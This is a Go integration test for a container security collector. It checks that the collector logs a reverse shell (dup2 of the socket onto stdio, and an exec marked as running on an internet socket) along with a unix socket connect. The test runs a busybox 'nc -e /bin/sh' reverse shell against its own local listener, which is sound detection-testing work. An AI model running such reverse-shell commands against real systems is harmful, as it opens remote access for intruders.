package collector

import (
	"net"
	"strconv"
	"testing"
	"time"

	"github.com/containsec/contain/internal/testenv"
	"github.com/containsec/contain/schemas/containv1"
)

// TestIntegrationReverseShellAndUnixConnect: busybox `nc -e /bin/sh` to a
// listener duplicates its TCP socket onto stdin, stdout and stderr (a
// dup2 record with its arguments, the new fd its result) and runs the
// shell on it (an exec with stdio_inet); an exec on pipes has no
// stdio_inet; a connect to a unix socket by path (busybox logger to
// /dev/log) is a file record OP_CONNECT naming the socket.
func TestIntegrationReverseShellAndUnixConnect(t *testing.T) {
	_, js, _ := startCollector(t, nil)
	raw := consumeRaw(t, js)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("true\n"))
			time.AfterFunc(5*time.Second, func() { c.Close() })
		}
	}()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	ctr := testenv.RunContainer(t, "colrevshell", testenv.ContainerSpec{HostNetwork: true})
	script := "logger hello; /bin/true; nc 127.0.0.1 " + port + " -e /bin/sh; exit 0"
	if out, err := ctr.Exec(15*time.Second, "/bin/sh", "-c", script); err != nil {
		t.Fatalf("runc exec: %v: %s", err, out)
	}
	var onSocket, onPipes *containv1.Exec
	var dup *containv1.Syscall
	var unixConnect *containv1.File
	raw.waitFor(t, 10*time.Second, "the reverse shell's records", func(evs []*containv1.Event) bool {
		for _, ev := range evs {
			if ev.ContainerId != ctr.ID {
				continue
			}
			if x := ev.GetExec(); x != nil {
				if x.StdioInet && onSocket == nil {
					onSocket = x
				}
				if x.Filename == "/bin/true" {
					onPipes = x
				}
			}
			if s := ev.GetSyscall(); s != nil && (s.Name == "dup2" || s.Name == "dup3") && s.Mode == containv1.Syscall_MODE_SENSITIVE {
				dup = s
			}
			if f := ev.GetFile(); f != nil && f.Op == containv1.File_OP_CONNECT && f.Path == "/dev/log" {
				unixConnect = f
			}
		}
		return onSocket != nil && onPipes != nil && dup != nil && unixConnect != nil
	})
	if onPipes.StdioInet {
		t.Errorf("exec of /bin/true on pipes has stdio_inet")
	}
	if dup.Ret < 0 || dup.Ret > 2 || len(dup.Args) != 6 || dup.Args[1] != uint64(dup.Ret) {
		t.Errorf("dup record: ret %d args %v, want the new fd 0..2 as args[1]", dup.Ret, dup.Args)
	}
	t.Logf("exec on the socket: %s %q; dup: %s ret %d; unix connect: %s result %d", onSocket.Filename, onSocket.Argv, dup.Name, dup.Ret, unixConnect.Path, unixConnect.Result)
}
